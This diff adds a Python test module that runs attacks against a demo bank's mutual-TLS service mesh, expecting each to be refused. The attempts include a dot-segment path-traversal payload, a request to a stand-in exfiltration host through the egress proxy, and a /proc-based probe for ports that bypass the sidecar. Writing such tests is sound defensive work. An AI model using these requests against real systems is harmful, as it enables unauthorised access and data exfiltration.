@@ -1,0 +1,186 @@
+"""What must fail: attacks on a running bank, each over real sockets, each expected to be refused.
+
+An attacker here may hold what a compromised service holds: a valid SVID of `notifications` or
+`payments`. He may also bring what anyone can make: certificates of his own authority, plaintext, no
+certificate. Every attempt says what he saw; the record of calls, joined by the port that he called
+from, says which rule or layer refused him.
+"""
+
+import asyncio
+import ssl
+from collections.abc import Awaitable
+from dataclasses import dataclass, replace
+from pathlib import Path
+
+LEDGER_READ = "/v1/accounts/acc-1/balance"
+TIMEOUT_S = 5.0
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Attempt:
+    """One attempt and its outcome.
+
+    Attributes:
+        name: what was tried.
+        refused: whether it got nothing.
+        by: the rule or layer that refused it.
+        source_port: the port it came from, by which the record of calls names the rule; None where
+            no sidecar was involved.
+        saw: what the attacker saw.
+    """
+
+    name: str
+    refused: bool
+    by: str
+    source_port: int | None = None
+    saw: str = ""
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Credentials:
+    """PEM files for a TLS client: certificate chain with key, both in one file."""
+
+    pem: Path
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Target:
+    """Where the attacks go and what the attacker holds.
+
+    Attributes:
+        ledger: where the ledger's sidecar takes mutual TLS.
+        proxy: the outbound listener of the payments service's sidecar.
+        ledger_socket: the ledger's own Unix socket.
+        ledger_pid: the ledger's process.
+        notifications: a valid SVID that no rule lets call the ledger.
+        payments: a valid SVID that may POST transfers to the ledger.
+        foreign: a certificate of another authority that names the ledger itself.
+        expired: an SVID of `payments` from the bank's authority, expired.
+    """
+
+    ledger: tuple[str, int]
+    proxy: tuple[str, int]
+    ledger_pid: int
+    notifications: Credentials
+    payments: Credentials
+    foreign: Credentials
+    expired: Credentials
+
+
+async def try_everything(target: Target) -> list[Attempt]:
+    """Make every attempt, one after the other; return them in order."""
+    return [await attempt for attempt in _attempts(target)]
+
+
+def _attempts(target: Target) -> list[Awaitable[Attempt]]:
+    read, write = ("GET", LEDGER_READ), ("DELETE", "/v1/transfers")
+    return [
+        _request("wrong caller", target, target.notifications, *read),
+        _request("wrong method", target, target.payments, *write),
+        _request("wrong path", target, target.payments, "POST", "/v1/admin"),
+        _request(
+            "path through dot segments", target, target.payments, "POST", "/v1/transfers/../admin"
+        ),
+        _request("no certificate", target, None, *read),
+        _request("foreign authority that names the ledger", target, target.foreign, *read),
+        _request("expired SVID", target, target.expired, "POST", "/v1/transfers"),
+        _plaintext(target),
+        _outside(target),
+        _around(target),
+    ]
+
+
+async def _request(
+    name: str, target: Target, credentials: Credentials | None, method: str, path: str
+) -> Attempt:
+    return await _exchange(name, target.ledger, _client(credentials), method, path, "ledger")
+
+
+async def _plaintext(target: Target) -> Attempt:
+    return await _exchange("plaintext", target.ledger, None, "GET", LEDGER_READ, "ledger")
+
+
+async def _outside(target: Target) -> Attempt:
+    url = "http://exfiltration.example/"
+    return await _exchange(
+        "unlisted outside host", target.proxy, None, "GET", url, "exfiltration.example"
+    )
+
+
+async def _exchange(
+    name: str,
+    address: tuple[str, int],
+    tls: ssl.SSLContext | None,
+    method: str,
+    path: str,
+    host: str,
+) -> Attempt:
+    """Send one request; refused means: no answer, or an answer that is an error of ours."""
+    port: int | None = None
+    try:
+        async with asyncio.timeout(TIMEOUT_S):
+            reader, writer = await asyncio.open_connection(*address)
+            port = writer.get_extra_info("sockname")[1]
+            try:
+                if tls:
+                    await writer.start_tls(tls)
+                request = f"{method} {path} HTTP/1.1\r\nhost: {host}\r\ncontent-length: 0\r\n\r\n"
+                writer.write(request.encode())
+                status = await reader.readline()
+            finally:
+                writer.transport.abort()
+    except (ssl.SSLError, ConnectionError, TimeoutError, OSError) as error:
+        return Attempt(
+            name=name, refused=True, by="transport", source_port=port, saw=_describe(error)
+        )
+    if not status:
+        return Attempt(
+            name=name, refused=True, by="transport", source_port=port, saw="connection closed"
+        )
+    code = status.split()[1].decode() if len(status.split()) > 1 else ""
+    return Attempt(
+        name=name, refused=code == "403", by="sidecar", source_port=port, saw=f"HTTP {code}"
+    )
+
+
+async def _around(target: Target) -> Attempt:
+    """Look for a TCP port of the ledger's own to walk around its sidecar."""
+    ports = await asyncio.to_thread(listening_ports, target.ledger_pid)
+    name = "the service's own port around the sidecar"
+    if not ports:
+        saw = "the ledger listens on a Unix socket in a private directory, on no port"
+        return Attempt(name=name, refused=True, by="no port", saw=saw)
+    answered = await _exchange(name, ("127.0.0.1", ports[0]), None, "GET", LEDGER_READ, "ledger")
+    return replace(answered, refused=False, saw=f"port {ports[0]} answers: {answered.saw}")
+
+
+def listening_ports(pid: int) -> list[int]:
+    """Return the TCP ports that the process `pid` listens on."""
+    inodes = set()
+    for descriptor in Path(f"/proc/{pid}/fd").iterdir():
+        try:
+            link = str(descriptor.readlink())
+        except FileNotFoundError:  # closed meanwhile
+            continue
+        if link.startswith("socket:["):
+            inodes.add(link[len("socket:[") : -1])
+    found = []
+    for table in ("tcp", "tcp6"):
+        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
+            columns = line.split()
+            if columns[3] == "0A" and columns[9] in inodes:
+                found.append(int(columns[1].rpartition(":")[2], 16))
+    return sorted(set(found))
+
+
+def _client(credentials: Credentials | None) -> ssl.SSLContext:
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE  # the attacker does not care whom he reaches
+    if credentials:
+        context.load_cert_chain(credentials.pem)
+    return context
+
+
+def _describe(error: BaseException) -> str:
+    return (str(error) or type(error).__name__)[:120]
